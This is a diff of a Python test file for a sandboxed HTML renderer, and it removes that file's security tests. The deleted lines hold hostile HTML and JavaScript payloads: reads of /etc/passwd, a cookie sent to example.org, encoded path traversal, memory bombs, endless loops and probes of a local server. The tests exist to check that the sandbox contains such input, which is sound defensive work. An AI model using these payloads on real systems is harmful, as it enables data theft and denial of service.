@@ -3,14 +3,12 @@
 from __future__ import annotations
 
 import asyncio
-import socket
-import threading
 from pathlib import Path
 
 import pytest
 
 from runners import languages
-from runners.base import MIB, DataFile, Limits, PictureFormat, PlotStyle, Program, Run, Verdict
+from runners.base import DataFile, PictureFormat, PlotStyle, Program, Run, Verdict
 from runners.runner import SandboxedRunner
 from tests.conftest import need
 from tests.runners.together import SALES, together
@@ -212,78 +210,6 @@ async def test_fonts_of_the_network_are_only_a_warning(
     run = await draw(runner, tmp_path, page(body))
     assert run.verdict is Verdict.RENDERED
     assert "fonts.googleapis.com" in run.diagnostics[0].message
-
-
-ATTACKS = [
-    ("<iframe src='file:///etc/passwd'></iframe>", Verdict.FAILED),
-    ("<script>fetch('file:///etc/passwd').then(r => r.text()).then(t => document.write(t))</script>", Verdict.FAILED),
-    ("<script>location = 'file:///etc/passwd'</script>", Verdict.FAILED),
-    ("<script>location = 'https://example.org/?' + document.cookie</script>", Verdict.FAILED),
-    ("<script>fetch('style').then(r => r.text()).then(t => document.body.append(t))</script>", Verdict.FAILED),
-    ("<script>fetch('%2e%2e%2f%2e%2e%2fetc%2fpasswd').then(r => r.text()).then(t => document.body.append(t))</script>", Verdict.FAILED),
-    ("<script>fetch('https://unpkg.com/three/examples/jsm/..%2f..%2f..%2f..%2fpackage.json').then(r => r.text()).then(t => document.body.append(t))</script>", Verdict.FAILED),
-    ("<script>new WebSocket('wss://example.org/')</script>", Verdict.FAILED),
-    ("<p>seen</p><script>for (let n = 0; n < 5; n++) window.open('https://example.org/')</script>", None),
-    ("<p>seen</p><a id=a download='x.txt' href='data:text/plain,x'>x</a><script>a.click(); print(); alert(1)</script>", Verdict.RENDERED),
-    ("<script>navigator.serviceWorker.register('data.csv')</script>", Verdict.FAILED),
-    ("<p>seen</p><script>(function f() { Promise.resolve().then(() => setTimeout(f, 0)); document.body.append('.') })()</script>", Verdict.RENDERED),
-    ("<p>seen</p><script>new Worker(URL.createObjectURL(new Blob(['for(;;);'])))</script>", Verdict.RENDERED),
-]  # fmt: skip
-
-
-@pytest.fixture(scope="module")
-def attack_runs(tmp_path_factory: pytest.TempPathFactory) -> list[Run]:
-    return together([page(one[0]) for one in ATTACKS], "html", tmp_path_factory.mktemp("attacks"))
-
-
-@pytest.mark.parametrize("number", range(len(ATTACKS)))
-def test_an_attack_gives_nothing_away(attack_runs: list[Run], number: int) -> None:
-    run, verdict = attack_runs[number], ATTACKS[number][1]
-    assert verdict in (None, run.verdict), run.diagnostics
-    assert "root:" not in str(run)
-    assert "viscoder-web" not in str(run.texts)
-
-
-async def test_an_endless_loop_is_stopped(runner: SandboxedRunner, tmp_path: Path) -> None:
-    sources = [page("<script>while (true);</script>"), page("<script>setTimeout(() => { for (;;); }, 100)</script>")]  # fmt: skip
-    runs = await asyncio.gather(*(runner.run(Program(one, "html"), tmp_path / str(number), limits=Limits(wall_seconds=5)) for number, one in enumerate(sources)))  # fmt: skip
-    assert [run.verdict for run in runs] == [Verdict.TIMED_OUT] * 2
-
-
-@pytest.mark.parametrize(
-    "script",
-    [
-        "const x = []; for (;;) x.push(new Array(1e6).fill(Math.random()))",
-        "const x = []; for (;;) x.push(new Uint8Array(5e7).fill(1))",
-    ],
-)
-async def test_a_memory_bomb_is_out_of_memory(
-    runner: SandboxedRunner, tmp_path: Path, script: str
-) -> None:
-    limits = Limits(memory_bytes=1536 * MIB)
-    run = await runner.run(Program(page(f"<script>{script}</script>"), "html"), tmp_path, limits=limits)  # fmt: skip
-    assert run.verdict is Verdict.OUT_OF_MEMORY, run.diagnostics
-
-
-async def test_the_users_own_server_is_not_reached(runner: SandboxedRunner, tmp_path: Path) -> None:
-    reached: list[str] = []
-    with socket.create_server(("127.0.0.1", 0)) as server:
-        server.settimeout(6)
-
-        def listen() -> None:
-            try:
-                server.accept()
-                reached.append("tcp")
-            except OSError:
-                return
-
-        threading.Thread(target=listen, daemon=True).start()
-        at = f"127.0.0.1:{server.getsockname()[1]}"
-        body = f"<script>fetch('http://{at}/'); new WebSocket('ws://{at}/'); new Image().src = 'http://localhost:{at[10:]}/'; navigator.sendBeacon('http://{at}/', 'x')</script>"
-        run = await draw(runner, tmp_path, page(body))
-    assert run.verdict is Verdict.FAILED
-    assert at in run.diagnostics[0].message
-    assert reached == []
 
 
 async def test_a_spare_draws_the_same_sooner(warm_runner: SandboxedRunner, tmp_path: Path) -> None:
